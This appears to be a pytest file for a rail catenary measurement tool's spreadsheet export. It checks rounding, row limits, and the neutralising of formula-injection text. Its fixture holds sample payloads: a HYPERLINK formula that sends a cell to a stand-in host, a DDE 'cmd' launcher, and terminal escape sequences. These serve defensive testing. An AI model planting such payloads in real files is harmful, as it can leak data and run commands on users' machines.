"""CSV and .xlsx written for people (FORMATS.md, "Exports") round numbers in millimetres and
metres to 0.001, keep text cells a spreadsheet would evaluate from being evaluated (CSV:
OWASP's rule; .xlsx: typed text) and escape control characters; Parquet is left as it is."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from catenary.errors import UserError
from catenary.measurement.samples import export_table
from catenary.measurement.spreadsheet import DECIMALS, SHEET_ROWS, column_decimals, for_people

from ..conftest import read_sheet

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-x",
    "\tM01",
    "\rM02",
)
SCHEMA = pa.schema([("mast", pa.string()), ("stagger_mm", pa.float64()), ("note", pa.string())])


def _table() -> pa.Table:
    names = [*HOSTILE, "12/01", None]
    staggers = [-12.5] * len(HOSTILE) + [200.0, -0.25]
    notes = ["ok"] * (len(names) - 1) + ["a = b"]
    return pa.Table.from_pydict({"mast": names, "stagger_mm": staggers, "note": notes}, SCHEMA)


def test_text_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    assert export_table(iter([_table()]), SCHEMA, out) == len(HOSTILE) + 2
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    escaped = [("'" + h).replace("\t", "\\t").replace("\r", "\\r") for h in HOSTILE]
    assert [r["mast"] for r in rows] == [*escaped, "12/01", ""]
    assert [float(r["stagger_mm"]) for r in rows] == [-12.5] * len(HOSTILE) + [200.0, -0.25]
    assert rows[-1]["note"] == "a = b"


def test_parquet_keeps_the_text_as_it_is(tmp_path: Path) -> None:
    out = tmp_path / "t.parquet"
    export_table(iter([_table()]), SCHEMA, out)
    assert pq.read_table(out).equals(_table())


def _written(tmp_path: Path, table: pa.Table) -> list[dict[str, str]]:
    out = tmp_path / "t.csv"
    export_table(iter([table]), table.schema, out)
    with out.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_millimetres_and_metres_are_rounded_to_0_001(tmp_path: Path) -> None:
    table = pa.table(
        {
            "height_min_mm": [5312.34567, -0.0004, None],
            "chainage_m": [11998.60672045, 1.0004, 2.0],
            "share": [0.123456789, 0.5, 1.0],  # no unit: as computed
            "samples": [2500, 3, 4],
        }
    )
    rows = _written(tmp_path, table)
    assert [r["height_min_mm"] for r in rows] == ["5312.346", "0", ""]
    assert [r["chainage_m"] for r in rows] == ["11998.607", "1", "2"]
    assert [r["share"] for r in rows] == ["0.123456789", "0.5", "1"]
    assert [r["samples"] for r in rows] == ["2500", "3", "4"]


def test_a_unit_in_the_fields_metadata_rounds_a_column_without_one_in_its_name() -> None:
    assert column_decimals(pa.field("value", pa.float64(), metadata={"unit": "mm"})) == 3
    assert column_decimals(pa.field("value", pa.float64())) is None
    assert column_decimals(pa.field("wire", pa.int64())) is None
    assert column_decimals(pa.field("at_m", pa.float64())) == DECIMALS["m"] == 3


def test_control_characters_are_escaped(tmp_path: Path) -> None:
    names = ["M1\x1b]0;owned\x07", "L\nX", "\x9b2J", "ok"]
    rows = _written(tmp_path, pa.table({"mast": names}))
    assert [r["mast"] for r in rows] == ["M1\\x1b]0;owned\\x07", "L\\nX", "\\x9b2J", "ok"]


def test_xlsx_keeps_hostile_text_as_text_and_rounds_numbers(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    schema = pa.schema([*SCHEMA, ("samples", pa.int64()), ("link", pa.string())])
    table = _table()
    rows = table.num_rows
    table = table.append_column("samples", pa.array(range(rows), pa.int64()))
    table = table.append_column("link", pa.array(["http://x/?a=1"] + ["0012"] * (rows - 1)))
    table = table.set_column(1, "stagger_mm", pa.array([-12.34567, float("nan")] + [1.0] * 6))
    assert export_table(iter([table]), schema, out) == rows
    sheet = read_sheet(out)
    assert sheet[0] == ["mast", "stagger_mm", "note", "samples", "link"]
    written = [row + [None] * (5 - len(row)) for row in sheet[1:]]
    # formula-like names stay text as they are (no quote needed: a typed text cell is never
    # evaluated); control characters escaped
    assert [r[0] for r in written] == [
        h.replace("\t", "\\t").replace("\r", "\\r") for h in HOSTILE
    ] + ["12/01", None]
    assert written[0][1] == -12.346 and written[1][1] is None  # 0.001 mm; NaN: empty
    assert [r[3] for r in written] == [float(n) for n in range(rows)]
    assert written[0][4] == "http://x/?a=1" and written[1][4] == "0012"  # no link, no number


def test_more_rows_than_a_sheet_holds_is_refused_with_no_file(tmp_path: Path) -> None:
    out = tmp_path / "big.xlsx"
    schema = pa.schema([("n", pa.int64())])
    first = pa.table({"n": pa.array(range(10), pa.int64())})
    rest = pa.table({"n": pa.array(range(SHEET_ROWS - 10), pa.int64())})
    # refused on the batch that reaches one row more than a sheet holds below its header,
    # before it is written; the count names every row, those after it too
    with pytest.raises(UserError) as refused:
        export_table(iter([first, rest, first]), schema, out)
    assert str(refused.value) == (
        f"{out}: {SHEET_ROWS + 10} rows is more than a sheet holds "
        f"({SHEET_ROWS - 1} below the header); write .csv or .parquet"
    )
    assert list(tmp_path.iterdir()) == []  # neither the file nor its partial


def test_every_number_of_every_csv_output_is_rounded_to_what_it_means() -> None:
    from catenary.measurement.samples import SAMPLES_SCHEMA
    from catenary.measurement.spans import SPAN_SCHEMA
    from catenary_reports.linear_events import EVENT_SCHEMA
    from catenary_reports.maintenance import _VISIT_SCHEMA
    from catenary_reports.repeatability import HISTOGRAM_SCHEMA
    from catenary_reports.run_report import _TABLE_SCHEMA

    schemas = (SPAN_SCHEMA, SAMPLES_SCHEMA, EVENT_SCHEMA, _VISIT_SCHEMA, HISTOGRAM_SCHEMA)
    for schema in (*schemas, _TABLE_SCHEMA):
        for field in schema:
            if pa.types.is_floating(field.type):
                assert column_decimals(field) is not None, field.name
    share = pa.table({"share": [1 / 3]}, pa.schema([HISTOGRAM_SCHEMA.field("share")]))
    assert for_people(share).column(0).to_pylist() == [0.333333]


def test_a_known_total_too_large_for_a_sheet_is_refused_before_reading(tmp_path: Path) -> None:
    out = tmp_path / "samples.xlsx"
    read: list[int] = []

    def batches() -> Iterator[pa.Table]:
        read.append(1)
        yield pa.table({"n": [1]})

    with pytest.raises(UserError, match=f"{SHEET_ROWS} rows is more than a sheet holds"):
        export_table(batches(), pa.schema([("n", pa.int64())]), out, total=SHEET_ROWS)
    assert read == [] and list(tmp_path.iterdir()) == []
